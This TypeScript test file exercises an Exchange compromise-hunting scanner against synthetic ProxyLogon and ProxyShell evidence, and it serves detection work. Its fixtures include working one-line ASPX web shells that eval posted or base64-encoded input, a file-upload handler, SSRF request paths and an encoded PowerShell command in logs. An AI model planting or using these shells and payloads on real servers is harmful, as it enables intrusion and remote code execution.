// A collection written to the spec but unlike the public sample: another host, a non-default install root on D:,
// gzip'd and size-rotated logs, a mid-file #Fields change with X-Forwarded-For, an HttpProxy file without the bare
// header line, UTF-16 and obfuscated shells, a DER-headed page, event shapes A and B, a padded inventory build.
import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { after, before, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { tempDir } from '../../lib/testing.ts'
import { huntExchange } from './scan.ts'
import type { ExchangeReport } from './types.ts'

const tmp = tempDir('mosaic-exch-')
after(tmp.cleanup)
const put = (rel: string, content: string | Buffer) => {
  const p = join(tmp.dir, rel)
  mkdirSync(dirname(p), { recursive: true })
  writeFileSync(p, content)
}
const R = 'D/Exchange/'
const utf16 = (s: string, bom: boolean) =>
  Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(s, 'utf16le')])

let report: ExchangeReport
before(async () => {
  put(
    'manifest.json',
    JSON.stringify({
      hostname: 'MBX7',
      fqdn: 'mbx7.example.org',
      exchangeInstallPath: 'D:\\Exchange',
      exchangeBuild: '15.02.0986.005',
    }),
  )
  put('inventory.csv', '\uFEFFBuild,Role,SERVER\r\n15.02.0792.010,Mailbox,MBX8\r\n14.3.509.0,Mailbox,OLD1\r\n')
  const iis = [
    '#Software: Microsoft Internet Information Services 10.0',
    '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status',
    '2021-03-04 01:00:00 10.1.1.1 POST /ecp/ab1.js - 443 - 192.0.2.10 curl/7.1 500',
    'garbage line',
    '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Cookie) sc-status X-Forwarded-For',
    '2021-03-04 01:00:01 10.1.1.1 GET /owa/auth/15.2.986/themes/x.aspx cmd=powershell%20-enc%20AAA 443 - 10.0.0.5 curl/7.1 - 200 104.140.114.110,+10.0.0.5',
    '2021-03-04 01:00:02 10.1.1.1 GET /owa/auth/logon.aspx - 443 - 10.0.0.6 curl/7.1 X-AnonResource-Backend=x/ecp/a.flt?~3 200 -',
  ].join('\n')
  put('C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz', gzipSync(iis))
  const hdr = 'DateTime,RequestId,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,AuthenticatedUser'
  put(
    `${R}Logging/HttpProxy/Ecp/HttpProxy_2021030401-2.LOG.gz`,
    gzipSync(
      [
        '#Software: Microsoft Exchange Server',
        `#Fields: ${hdr}`,
        '2021-03-04T01:00:00.100Z,r1,/ecp/ab1.js,ServerInfo~x]@mbx7:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,"python, requests",192.0.2.10,200,POST,',
        hdr,
        '2021-03-04T01:00:01.100Z,r2,/ecp/ab1.js,ServerInfo~LOCALHOST/ecp/x,ua,192.0.2.10,200,POST,',
      ].join('\r\n'),
    ),
  )
  put(
    `${R}Logging/OABGeneratorLog/sub/OABGenerator20210304-1.LOG`,
    [
      '#Fields: DateTime,Server,Message',
      "2021-03-04T01:00:00.000Z,MBX7,Download failed and temporary file 'D:\\Exchange\\ClientAccess\\OAB\\t\\a.tmp' needs to be removed.",
      "2021-03-04T01:00:01.000Z,MBX7,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\a.tmp' needs to be removed.",
      "2021-03-04T01:00:02.000Z,MBX7,Download failed and temporary file 'D:\\Exchange\\ClientAccess\\OABX\\a.aspx' needs to be removed.",
    ].join('\n'),
  )
  put(
    `${R}Logging/ECP/Server/ECPServer20210304-1.LOG`,
    `#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-04T01:00:00.000Z,MBX7,ECP.Request,S:CMD=Set-OabVirtualDirectory.InternalUrl='http://f/< script>x</ script >';S:URL=/ecp/x\n2021-03-04T01:00:01.000Z,MBX7,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl='${'<'.repeat(20000)}'\n`,
  )
  // UTF-16LE (BOM) shell with comment obfuscation; UTF-16 without BOM base64 variant; a legitimate UTF-16 page.
  put(
    'C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/q.aspx',
    utf16('<%@ Page Language="Jscript"%>\r\n<%eval/*asf*/(Request.Form["p"],"unsafe");%>', true),
  )
  put(
    `${R}FrontEnd/HttpProxy/owa/auth/Current/scripts/b.aspx`,
    utf16(
      '<%@ Page Language="C#"%>\n\n<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["z"])),"unsafe");%>',
      false,
    ),
  )
  put(`${R}FrontEnd/HttpProxy/owa/auth/logon.aspx`, utf16('<%@ Page Language="C#" %><html>logon</html>', true))
  put(`${R}FrontEnd/HttpProxy/ecp/auth/notes.txt`, 'hello')
  put(`${R}FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx`, '<%@ Page %>')
  put('C/inetpub/wwwroot/aspnet_client/up.ashx', '<%@ WebHandler %> Request.Files[0].SaveAs(Server.MapPath("x"));')
  put(
    'C/inetpub/wwwroot/cert.aspx',
    Buffer.concat([Buffer.from([0x30, 0x82, 0x01, 0x00]), Buffer.from('<script runat="server">x</script>')]),
  )
  put('C/Windows/Temp/sub/lsass.exe.dmp', 'MDMP')
  put('C/ProgramData/Stage/a.7z', '7z')
  put(
    'C/Windows/System32/inetsrv/config/applicationHost.config',
    '<virtualDirectory path="/x" physicalPath="%SystemDrive%\\Users\\Public" />\n',
  )
  const shapeB = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'MSExchange Unified Messaging' } },
        EventID: { '#text': 1040 },
        Level: 2,
        TimeCreated: { '#attributes': { SystemTime: '2021-03-04T01:02:03.123456Z' } },
        Channel: 'Application',
        Computer: 'mbx7',
      },
      EventData: { Data: { '#text': ['worker failed', 'System.InvalidCastException: bad'] } },
    },
  }
  const shapeA = {
    TimeCreated: '/Date(1629796815000)/',
    Id: 6,
    LevelDisplayName: 'Error',
    ProviderName: 'MSExchange CmdletLogs',
    LogName: 'MSExchange Management',
    Message:
      "Cmdlet failed. Cmdlet New-MailboxExportRequest, parameters -Mailbox 'a' -FilePath \\\\MBX7.EXAMPLE.ORG\\share\\x.pst",
  }
  const umA = {
    TimeCreated: '2021-03-04T01:02:04Z',
    Id: 1,
    LevelDisplayName: 'error',
    ProviderName: 'MSExchange Unified Messaging',
    Message: 'System.InvalidCastException',
  }
  put(
    'eventlogs/2021/app.jsonl.gz',
    gzipSync(`${JSON.stringify(shapeB)}\n{broken\n${JSON.stringify(shapeA)}\n${JSON.stringify(umA)}\n`),
  )
  report = await huntExchange(tmp.dir)
})

const rows = () => report.findings.map((f) => `${f.detectionId} ${f.severity} ${f.source.file} ${f.source.line ?? '-'}`)

test('hold-out style collection: exactly the findings the spec defines, in order', () => {
  assert.deepEqual(rows(), [
    'C/ProgramData/Stage/a.7z EXH-FS-008'.replace(/^(\S+) (\S+)$/, '$2 low $1 -'),
    'EXH-FS-009 high C/Windows/System32/inetsrv/config/applicationHost.config 1',
    'EXH-FS-007 high C/Windows/Temp/sub/lsass.exe.dmp -',
    'EXH-IIS-001 high C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz 3',
    'EXH-IIS-003 high C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz 6',
    'EXH-IIS-004 high C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz 6',
    'EXH-IOC-001 medium C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz 6',
    'EXH-PL-007 high C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz 7',
    'EXH-FS-004 high C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/q.aspx -',
    'EXH-FS-002 critical C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/q.aspx 2',
    'EXH-FS-004 high C/inetpub/wwwroot/aspnet_client/up.ashx -',
    'EXH-FS-002 high C/inetpub/wwwroot/aspnet_client/up.ashx 1',
    'EXH-FS-006 critical C/inetpub/wwwroot/cert.aspx -',
    'EXH-FS-004 high D/Exchange/FrontEnd/HttpProxy/ecp/auth/notes.txt -',
    'EXH-FS-004 high D/Exchange/FrontEnd/HttpProxy/owa/auth/Current/scripts/b.aspx -',
    'EXH-FS-002 critical D/Exchange/FrontEnd/HttpProxy/owa/auth/Current/scripts/b.aspx 3',
    'EXH-PL-004 critical D/Exchange/Logging/ECP/Server/ECPServer20210304-1.LOG 2',
    'EXH-PL-001 critical D/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030401-2.LOG.gz 3',
    'EXH-PL-003 critical D/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030401-2.LOG.gz 3',
    'EXH-PL-005 critical D/Exchange/Logging/OABGeneratorLog/sub/OABGenerator20210304-1.LOG 3',
    'EXH-PL-005 critical D/Exchange/Logging/OABGeneratorLog/sub/OABGenerator20210304-1.LOG 4',
    'EXH-PL-006 high eventlogs/2021/app.jsonl.gz 1',
    'EXH-PS-003 critical eventlogs/2021/app.jsonl.gz 3',
    'EXH-PL-006 high eventlogs/2021/app.jsonl.gz 4',
    'EXH-VER-002 critical inventory.csv 2',
    'EXH-VER-001 critical inventory.csv 3',
  ])
  assert.equal(report.host, 'MBX7')
  assert.equal(report.verdict, 'compromise-likely')
})

test('hold-out style collection: derived values, timestamps and coverage', () => {
  const ioc = report.findings.find((f) => f.detectionId === 'EXH-IOC-001')!
  assert.equal(ioc.clientIp, '104.140.114.110') // first X-Forwarded-For entry
  const ev = report.findings.filter((f) => f.detectionId === 'EXH-PL-006').map((f) => f.timestamp)
  assert.deepEqual(ev, ['2021-03-04T01:02:03.123Z', '2021-03-04T01:02:04Z'])
  assert.equal(report.findings.find((f) => f.detectionId === 'EXH-PS-003')?.timestamp, '2021-08-24T09:20:15.000Z')
  assert.deepEqual(report.coverage.installRoots, ['D:\\Exchange\\'])
  const iis = report.coverage.sources.find((s) => s.type === 'iis')!
  assert.equal(iis.malformed, 1)
  assert.deepEqual(iis.malformedLines, ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz:4'])
  assert.equal(report.coverage.windows.find((w) => w.name === 'proxylogon')?.covered, true)
  assert.equal(report.coverage.windows.find((w) => w.name === 'proxyshell')?.covered, true)
  assert.equal(report.coverage.yara.available, false)
})
